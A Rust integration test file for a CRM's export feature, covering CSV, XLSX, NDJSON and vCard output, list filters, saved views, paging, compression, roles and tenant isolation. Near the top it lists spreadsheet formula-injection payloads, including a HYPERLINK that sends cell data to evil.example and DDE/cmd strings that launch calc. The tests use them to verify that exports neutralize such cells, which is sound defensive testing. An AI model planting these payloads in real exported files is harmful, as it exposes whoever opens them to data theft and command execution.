//! Exports of lists (issue 18): every format, the list's filters, search,
//! sort and saved views, formula injection neutralized in CSV and XLSX,
//! vCards that a real parser reads, roles and isolation.

use std::io::Read;

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::*;

const O: &str = "/api/v1/orgs/acme";

/// Cells a spreadsheet would evaluate (OWASP's list), and friends.
pub const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
];

/// A GET answering bytes: status, content type, disposition, body.
pub async fn download(
    s: &Session,
    path: &str,
    query: &[(&str, &str)],
) -> (StatusCode, String, String, Vec<u8>) {
    let resp = s
        .http
        .get(format!("{}{path}", s.base))
        .query(query)
        .header("cookie", &s.cookie)
        .send()
        .await
        .expect("request");
    let status = resp.status();
    let header = |name: &str| {
        resp.headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string()
    };
    let (ty, disp) = (header("content-type"), header("content-disposition"));
    let body = resp.bytes().await.expect("body").to_vec();
    (status, ty, disp, body)
}

/// A CSV export, parsed back: header and rows.
pub async fn csv_export(
    s: &Session,
    kind: &str,
    query: &[(&str, &str)],
) -> (Vec<String>, Vec<Vec<String>>) {
    let mut q = vec![("format", "csv")];
    q.extend_from_slice(query);
    let (status, ty, disp, body) = download(s, &format!("{O}/{kind}/export"), &q).await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&body));
    assert!(ty.starts_with("text/csv"), "{ty}");
    assert!(disp.starts_with("attachment; filename=\"acme-"), "{disp}");
    let mut r = csv::ReaderBuilder::new().from_reader(body.as_slice());
    let headers: Vec<String> = r
        .headers()
        .expect("header")
        .iter()
        .map(String::from)
        .collect();
    let rows = r
        .records()
        .map(|rec| rec.expect("row").iter().map(String::from).collect())
        .collect();
    (headers, rows)
}

fn col(headers: &[String], name: &str) -> usize {
    headers
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {headers:?}"))
}

/// Whether a spreadsheet would run this cell as a formula.
fn live(cell: &str) -> bool {
    let numeric = cell.parse::<f64>().is_ok() && !cell.starts_with('+');
    matches!(
        cell.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    ) && !numeric
}

async fn contact(s: &Session, body: Value) -> String {
    let (status, c) = s.post(&format!("{O}/contacts"), body).await;
    assert_eq!(status, StatusCode::CREATED, "{c}");
    c["id"].as_str().expect("id").to_string()
}

/// Every `<t>` text of a worksheet's XML, unescaped.
fn xlsx_texts(xml: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = xml;
    while let Some(start) = rest.find("<t") {
        rest = &rest[start + 2..];
        if !(rest.starts_with('>') || rest.starts_with(' ')) {
            continue;
        }
        let Some(open_end) = rest.find('>') else {
            break;
        };
        let Some(close) = rest.find("</t>") else {
            break;
        };
        let raw = &rest[open_end + 1..close];
        let mut text = raw
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&quot;", "\"")
            .replace("&apos;", "'")
            .replace("&#9;", "\t")
            .replace("&#xD;", "\r")
            .replace("&#13;", "\r")
            .replace("_x000D_", "\r")
            .replace("_x0009_", "\t");
        text = text.replace("&amp;", "&");
        out.push(text);
        rest = &rest[close..];
    }
    out
}

fn unzip(bytes: &[u8], name: &str) -> String {
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an xlsx is a zip");
    let mut f = z.by_name(name).expect("sheet");
    let mut s = String::new();
    f.read_to_string(&mut s).expect("utf-8");
    s
}

#[tokio::test]
async fn formula_cells_are_neutralized_in_csv_and_xlsx_and_numbers_are_not() {
    let app = spawn_app().await;
    let s = app.setup_owner().await;
    for (key, ty) in [("arr", "number"), ("motto", "text")] {
        let (status, f) = s
            .post(
                &format!("{O}/fields"),
                json!({"kind": "contact", "key": key, "label": key, "type": ty}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{f}");
    }
    let (_, tag) = s.post(&format!("{O}/tags"), json!({"name": "=cmd"})).await;
    for (i, f) in FORMULAS.iter().enumerate() {
        let id = contact(
            &s,
            json!({"first_name": f, "last_name": format!("Row{i}"), "job_title": f, "source": f,
                   "address": {"street": f, "city": "X"},
                   "custom": {"arr": "-500", "motto": f}}),
        )
        .await;
        s.post(
            &format!("{O}/contacts/{id}/tags"),
            json!({"tag_ids": [tag["id"]]}),
        )
        .await;
    }
    // A company named with a formula shows up through the contact's company column.
    let (_, co) = s
        .post(&format!("{O}/companies"), json!({"name": "=EVIL()"}))
        .await;
    contact(
        &s,
        json!({"first_name": "Plain", "company_id": co["id"], "custom": {"arr": "12.5"}}),
    )
    .await;

    let (headers, rows) = csv_export(&s, "contacts", &[]).await;
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    let mut checked = 0;
    for row in &rows {
        assert_eq!(row.len(), headers.len());
        for cell in row {
            assert!(!live(cell), "live formula in CSV: {cell:?}");
            checked += 1;
        }
    }
    assert!(checked > 100);
    let job = col(&headers, "job_title");
    assert!(rows.iter().any(|r| r[job] == "'=1+1"), "{rows:?}");
    // The number a custom field holds is written as a number, untouched.
    let arr = col(&headers, "custom.arr");
    assert!(rows.iter().filter(|r| r[arr] == "-500").count() == FORMULAS.len());
    assert!(rows.iter().any(|r| r[arr] == "12.5"));
    let tags = col(&headers, "tags");
    assert!(rows.iter().any(|r| r[tags] == "'=cmd"));
    assert!(
        rows.iter()
            .any(|r| r[col(&headers, "company")] == "'=EVIL()")
    );
    for h in [
        "id",
        "first_name",
        "last_name",
        "emails",
        "phones",
        "custom.motto",
        "created_at",
    ] {
        col(&headers, h);
    }

    let (status, ty, disp, body) =
        download(&s, &format!("{O}/contacts/export"), &[("format", "xlsx")]).await;
    assert_eq!(status, StatusCode::OK);
    assert!(ty.contains("spreadsheetml"), "{ty}");
    assert!(disp.contains(".xlsx"), "{disp}");
    let sheet = unzip(&body, "xl/worksheets/sheet1.xml");
    let texts = xlsx_texts(&sheet);
    assert!(texts.len() > 50, "{sheet}");
    for t in &texts {
        assert!(!live(t), "live formula in XLSX: {t:?}");
    }
    assert!(texts.iter().any(|t| t == "'=1+1"));
    assert!(!sheet.contains("<f>"), "no formulas at all");
    assert!(sheet.contains("<v>-500</v>"), "numbers stay numbers");
}

#[tokio::test]
async fn exports_apply_the_lists_filters_search_sort_and_saved_views() {
    let app = spawn_app().await;
    let s = app.setup_owner().await;
    let ada = contact(
        &s,
        json!({"first_name": "Ada", "last_name": "Zed", "stage": "customer"}),
    )
    .await;
    contact(
        &s,
        json!({"first_name": "Bob", "last_name": "Young", "stage": "lead"}),
    )
    .await;
    let cy = contact(
        &s,
        json!({"first_name": "Cyrus", "last_name": "Xu", "stage": "customer"}),
    )
    .await;

    let names = |headers: &[String], rows: &[Vec<String>]| -> Vec<String> {
        let i = col(headers, "first_name");
        rows.iter().map(|r| r[i].clone()).collect()
    };
    let (h, rows) = csv_export(&s, "contacts", &[]).await;
    assert_eq!(names(&h, &rows), ["Ada", "Bob", "Cyrus"]);
    let (h, rows) = csv_export(&s, "contacts", &[("stage", "customer"), ("sort", "-name")]).await;
    assert_eq!(names(&h, &rows), ["Cyrus", "Ada"]);
    let filter = json!({"and": [{"field": "stage", "op": "eq", "value": "lead"}]}).to_string();
    let (h, rows) = csv_export(&s, "contacts", &[("filter", &filter)]).await;
    assert_eq!(names(&h, &rows), ["Bob"]);
    // The list's search box (the search engine, once it has caught up).
    get_until(&s, &format!("{O}/contacts?q=cyrus"), |b| {
        b["items"].as_array().is_some_and(|a| a.len() == 1)
    })
    .await;
    let (h, rows) = csv_export(&s, "contacts", &[("q", "cyrus")]).await;
    assert_eq!(names(&h, &rows), ["Cyrus"]);
    assert_eq!(rows[0][col(&h, "id")], cy);

    // A saved view: its filter and sort; a filter sent as well narrows it.
    let (status, view) = s
        .post(
            &format!("{O}/views"),
            json!({"kind": "contact", "name": "Customers", "sort": "-name",
                   "filter": {"and": [{"field": "stage", "op": "eq", "value": "customer"}]}}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{view}");
    let vid = view["id"].as_str().expect("id");
    let (h, rows) = csv_export(&s, "contacts", &[("view", vid)]).await;
    assert_eq!(names(&h, &rows), ["Cyrus", "Ada"]);
    let ada_only = json!({"field": "first_name", "op": "eq", "value": "Ada"}).to_string();
    let (h, rows) = csv_export(&s, "contacts", &[("view", vid), ("filter", &ada_only)]).await;
    assert_eq!(names(&h, &rows), ["Ada"]);
    // A view of another kind, or none: 422 on `view`.
    for bad in [vid.to_string(), "nope".to_string()] {
        let (status, body) = s
            .get_query(&format!("{O}/companies/export"), &[("view", &bad)])
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        assert!(body["error"]["fields"]["view"].is_string(), "{body}");
    }

    // NDJSON: exactly the records as the list shows them.
    let (status, ty, _, body) = download(
        &s,
        &format!("{O}/contacts/export"),
        &[("format", "ndjson"), ("stage", "customer")],
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(ty, "application/x-ndjson");
    let lines: Vec<Value> = String::from_utf8(body)
        .expect("utf-8")
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    let (_, list) = s.get(&format!("{O}/contacts?stage=customer")).await;
    assert_eq!(Value::Array(lines), list["items"]);
    assert_eq!(list["items"][0]["id"], json!(ada));

    // Mistakes are 422 before anything is sent.
    for (k, v) in [
        ("format", "pdf"),
        ("limit", "5"),
        ("cursor", "x"),
        ("filter", "{"),
        ("sort", "nope"),
        ("bogus", "1"),
    ] {
        let (status, body) = s
            .get_query(&format!("{O}/contacts/export"), &[(k, v)])
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{k}={v}: {body}");
    }
    let (status, body) = s
        .get_query(&format!("{O}/deals/export"), &[("format", "vcf")])
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body["error"]["fields"]["format"].is_string());
}

#[tokio::test]
async fn every_kind_exports_and_long_lists_come_whole_in_pages() {
    let app = spawn_app().await;
    let s = app.setup_owner().await;
    // More than one page (1,000 rows) of companies.
    let n = 1_005;
    for i in 0..n {
        let (status, body) = s
            .post(
                &format!("{O}/companies"),
                json!({"name": format!("Co {i:04}")}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
    let (h, rows) = csv_export(&s, "companies", &[]).await;
    let name = col(&h, "name");
    let got: Vec<&str> = rows.iter().map(|r| r[name].as_str()).collect();
    let want: Vec<String> = (0..n).map(|i| format!("Co {i:04}")).collect();
    assert_eq!(got, want);
    for kind in ["contacts", "deals", "notes", "tasks", "activities"] {
        for format in ["csv", "ndjson", "xlsx"] {
            let (status, _, _, body) =
                download(&s, &format!("{O}/{kind}/export"), &[("format", format)]).await;
            assert_eq!(status, StatusCode::OK, "{kind} {format}");
            if format == "csv" {
                assert!(body.starts_with("\u{FEFF}id,".as_bytes()), "{kind}");
            }
        }
    }
}

#[tokio::test]
async fn contacts_export_as_vcards_a_parser_reads() {
    let app = spawn_app().await;
    let s = app.setup_owner().await;
    let (_, co) = s
        .post(
            &format!("{O}/companies"),
            json!({"name": "Smith, Jones; and Partners"}),
        )
        .await;
    let long = "Ü".repeat(60);
    contact(
        &s,
        json!({"first_name": "Zoë", "last_name": "O'Brien, Jr.; III", "job_title": long,
               "company_id": co["id"],
               "emails": [{"label": "work", "email": "zoe@example.com"}, {"label": "home", "email": "z@home.example"}],
               "phones": [{"label": "mobile", "phone": "+44 20 7946 0958"}],
               "address": {"street": "1 Main St\nFlat 2", "city": "London", "country": "GB"}}),
    )
    .await;
    contact(&s, json!({"first_name": "Bo"})).await;
    let (status, ty, disp, body) =
        download(&s, &format!("{O}/contacts/export"), &[("format", "vcf")]).await;
    assert_eq!(status, StatusCode::OK);
    assert!(ty.starts_with("text/vcard"), "{ty}");
    assert!(disp.contains(".vcf"), "{disp}");
    let text = String::from_utf8(body).expect("utf-8");
    for line in text.split("\r\n") {
        assert!(line.len() <= 75, "unfolded line: {line:?}");
    }
    let mut parser = calcard::Parser::new(&text);
    let mut cards = Vec::new();
    loop {
        match parser.entry() {
            calcard::Entry::VCard(c) => cards.push(c),
            calcard::Entry::Eof => break,
            other => panic!("not a vCard: {other:?}"),
        }
    }
    assert_eq!(cards.len(), 2);
    use calcard::vcard::VCardProperty as P;
    let zoe = cards
        .iter()
        .find(|c| {
            c.property(&P::N)
                .is_some_and(|n| n.values.len() > 1 && n.values[1].as_text() == Some("Zoë"))
        })
        .expect("Zoë's card");
    let text_of = |p: &P| -> Vec<String> {
        zoe.property(p)
            .map(|e| {
                e.values
                    .iter()
                    .map(|v| v.as_text().unwrap_or_default().to_string())
                    .collect()
            })
            .unwrap_or_default()
    };
    assert_eq!(text_of(&P::Fn), ["Zoë O'Brien, Jr.; III"]);
    assert_eq!(text_of(&P::N)[0], "O'Brien, Jr.; III");
    assert_eq!(text_of(&P::N)[1], "Zoë");
    assert_eq!(text_of(&P::Org), ["Smith, Jones; and Partners"]);
    assert_eq!(text_of(&P::Title), [long]);
    assert_eq!(zoe.properties(&P::Email).count(), 2);
    assert!(text_of(&P::Adr).iter().any(|p| p == "1 Main St\nFlat 2"));
    assert!(text.contains("TEL;VALUE=uri;TYPE=cell;PREF=1:tel:+442079460958"));
}

#[tokio::test]
async fn exports_are_for_members_and_stay_inside_their_organization() {
    let app = spawn_app_with(|c| c.allow_signup = true).await;
    let s = app.setup_owner().await;
    contact(&s, sample_contact("Secret")).await;
    let viewer = app.add_member(&s, "acme", "v@example.com", "viewer").await;
    let member = app.add_member(&s, "acme", "m@example.com", "member").await;
    let path = format!("{O}/contacts/export");
    assert_eq!(download(&viewer, &path, &[]).await.0, StatusCode::FORBIDDEN);
    let (status, _, _, body) = download(&member, &path, &[]).await;
    assert_eq!(status, StatusCode::OK);
    assert!(String::from_utf8_lossy(&body).contains("Secret"));
    let key = app.api_key(&s, "acme", "member").await;
    let resp = key
        .http
        .get(format!("{}{path}", key.base))
        .bearer_auth(&key.secret)
        .send()
        .await
        .expect("request");
    assert_eq!(resp.status(), StatusCode::OK);
    let viewer_key = app.api_key(&s, "acme", "viewer").await;
    assert_eq!(viewer_key.get(&path).await.0, StatusCode::FORBIDDEN);
    // The owner's personal view is not the member's to use.
    let (_, view) = s
        .post(
            &format!("{O}/views"),
            json!({"kind": "contact", "name": "Mine"}),
        )
        .await;
    let (status, _) = member
        .get_query(&path, &[("view", view["id"].as_str().expect("id"))])
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    let (status, body, b) = app
        .anon()
        .sign_in_via(
            "/api/v1/auth/signup",
            json!({"name": "Bob", "email": "bob@example.com", "password": PASSWORD, "org_name": "Bobco"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let b = b.expect("session");
    for kind in ["contacts", "companies", "deals"] {
        let (status, _, _, body) = download(&b, &format!("{O}/{kind}/export"), &[]).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        assert!(!String::from_utf8_lossy(&body).contains("Secret"));
    }
    let (status, _, _, body) = download(&b, "/api/v1/orgs/bobco/contacts/export", &[]).await;
    assert_eq!(status, StatusCode::OK);
    assert!(!String::from_utf8_lossy(&body).contains("Secret"));
    let anon = reqwest::get(format!("{}{path}", app.base))
        .await
        .expect("request");
    assert_eq!(anon.status(), StatusCode::UNAUTHORIZED);
}

/// A client that accepts gzip gets the whole export, compressed: the
/// compression layer reads the body once more after its end, which must
/// not cut the download.
#[tokio::test]
async fn a_compressed_export_arrives_whole() {
    let app = spawn_app().await;
    let s = app.setup_owner().await;
    for first in ["Ann", "Bea", "Cy"] {
        let (status, _) = s
            .post("/api/v1/orgs/acme/contacts", sample_contact(first))
            .await;
        assert_eq!(status, StatusCode::CREATED);
    }
    for format in ["csv", "ndjson", "vcf", "xlsx"] {
        let resp = s
            .http
            .get(format!("{}/api/v1/orgs/acme/contacts/export", s.base))
            .query(&[("format", format)])
            .header("cookie", &s.cookie)
            .header("accept-encoding", "gzip")
            .send()
            .await
            .expect("request");
        assert_eq!(resp.status(), StatusCode::OK, "{format}");
        let body = resp.bytes().await;
        assert!(
            body.as_ref().is_ok_and(|b| !b.is_empty()),
            "{format}: the download was cut: {body:?}"
        );
    }
}
